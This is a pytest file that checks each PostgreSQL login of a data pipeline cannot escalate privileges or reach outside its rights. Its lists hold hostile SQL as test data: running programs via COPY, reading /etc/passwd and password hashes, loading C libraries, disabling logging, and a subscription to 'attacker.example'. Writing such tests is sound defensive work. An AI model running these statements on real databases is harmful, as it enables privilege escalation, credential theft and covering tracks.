"""What somebody who can run SQL in a process's session tries next, from each login."""

from collections.abc import Iterator

import psycopg
import pytest
from psycopg import errors

from integration.database.role_names import ROLES
from tests.database.rights import as_login

REFUSED = (errors.InsufficientPrivilege,)
# The server has no such program or file: for an extension, this is checked before the rights.
ABSENT = (*REFUSED, errors.FeatureNotSupported, errors.UndefinedFile)

OF_EVERY_LOGIN = {
    "become another role": [
        "set role owner",
        "set role postgres",
        "set session authorization postgres",
        "set session authorization owner",
    ],
    "gain rights": [
        "alter role current_user superuser",
        "alter role current_user createrole",
        "alter role current_user bypassrls",
        "create role taken",
        "grant postgres to current_user",
        "grant owner to current_user",
        "grant pg_read_all_data to current_user",
        "grant pg_execute_server_program to current_user",
        "alter role owner password 'taken'",
        "drop role analyst",
    ],
    "use the machine": [
        "copy (select 1) to program 'id'",
        "copy (select 1) to '/tmp/taken'",
        "select pg_read_file('/etc/passwd')",
        "select pg_read_binary_file('postgresql.conf')",
        "select pg_ls_dir('/')",
        "select pg_stat_file('postgresql.conf')",
        "select pg_ls_logdir()",
        "select lo_import('/etc/passwd')",
        "select lo_export(1, '/tmp/taken')",
        "load '/tmp/taken.so'",
        "create function pg_temp.taken() returns int language c as '/tmp/taken.so'",
        "create function pg_temp.taken() returns int language internal as 'taken'",
    ],
    "reach another server": [
        "create subscription taken connection 'host=attacker.example' publication taken",
        "create foreign data wrapper taken",
    ],
    "change the server": [
        "alter system set log_statement = 'none'",
        "select pg_reload_conf()",
        "select pg_rotate_logfile()",
        "select pg_switch_wal()",
        "select pg_create_physical_replication_slot('taken')",
        "checkpoint",
        "set session_replication_role = 'replica'",
        "set log_statement = 'none'",
        "create database taken",
        "create tablespace taken location '/tmp'",
        "create event trigger taken on ddl_command_start execute function taken()",
        "create publication taken for all tables",
    ],
    "read passwords": [
        "select rolpassword from pg_authid",
        "select passwd from pg_shadow",
        "select umoptions from pg_user_mapping",
    ],
    "create something": [
        "create table public.taken ()",
        "create table integration.taken ()",
        "create table worksights.taken ()",
        "create table ingress.taken ()",
        "create table zoom_raw.taken ()",
        "create view public.taken as select 1",
        "create function public.taken() returns int language sql return 1",
        "create type public.taken as enum ()",
        "alter schema public rename to taken",
        "comment on schema public is 'taken'",
    ],
}
EXTENSIONS = ("dblink", "postgres_fdw", "file_fdw", "adminpack", "plpython3u", "pageinspect")
NOT_OF_THE_PIPELINE = [
    "create schema taken",
    "create temporary table taken ()",
    "select 1 as a into temporary taken",
    "create table timeline.taken ()",
    "create table intermediate.taken ()",
    "create table dagster.taken ()",
    "create or replace view operations.deliveries as select 1",
    "create or replace function clientsights.half_life_days() returns int language sql return 1",
    "create extension plperl",
    "select pipeline.analyze_grown(array[]::regclass[])",
    "select integration.delete_old_accesses()",
]


@pytest.fixture(params=ROLES)
def login(request: pytest.FixtureRequest, database_url: str) -> Iterator[psycopg.Connection]:
    url = as_login(database_url, request.param)
    with psycopg.connect(url, autocommit=True) as connection:
        yield connection


@pytest.mark.parametrize("attempt", OF_EVERY_LOGIN)
def test_no_login_can(attempt: str, login: psycopg.Connection) -> None:
    others = [f"set role {role}" for role in ROLES if role != login.info.user]
    grants = [f"grant {role} to current_user" for role in ROLES if role != login.info.user]
    more = {"become another role": others, "gain rights": grants}.get(attempt, [])
    assert accepted(login, [*OF_EVERY_LOGIN[attempt], *more], refused_by=REFUSED) == []


def test_no_login_can_add_an_extension(login: psycopg.Connection) -> None:
    statements = [f"create extension {name}" for name in EXTENSIONS]
    assert accepted(login, statements, refused_by=ABSENT) == []


def test_only_the_pipeline_creates_something(login: psycopg.Connection) -> None:
    if login.info.user != "pipeline":
        assert accepted(login, NOT_OF_THE_PIPELINE, refused_by=ABSENT) == []


@pytest.mark.parametrize("back", ["set role none", "reset role", "reset all", "discard all"])
def test_there_is_no_role_to_go_back_to(back: str, login: psycopg.Connection) -> None:
    login.execute(back)
    users = login.execute("select current_user::text, session_user::text").fetchone()
    assert users == (login.info.user, login.info.user)


def test_nobody_ends_or_reads_the_sessions_of_others(
    login: psycopg.Connection, database_url: str
) -> None:
    with psycopg.connect(database_url, autocommit=True) as owner:
        owner.execute("select 'a secret of the owner'")
        pid = owner.info.backend_pid
        ends = [f"select pg_terminate_backend({pid})", f"select pg_cancel_backend({pid})"]
        assert accepted(login, ends, refused_by=REFUSED) == []
        seen = login.execute("select query from pg_stat_activity where pid = %s", [pid]).fetchone()
    assert seen == ("<insufficient privilege>",)


def accepted(
    connection: psycopg.Connection, statements: list[str], *, refused_by: tuple[type, ...]
) -> list[str]:
    """Those that worked, or failed for another reason than a missing right."""
    found = []
    for statement in statements:
        try:
            connection.execute(statement.encode())
        except refused_by:
            continue
        except psycopg.Error as error:
            found.append(f"{statement}: {type(error).__name__}: {error}")
        else:
            found.append(statement)
    return found
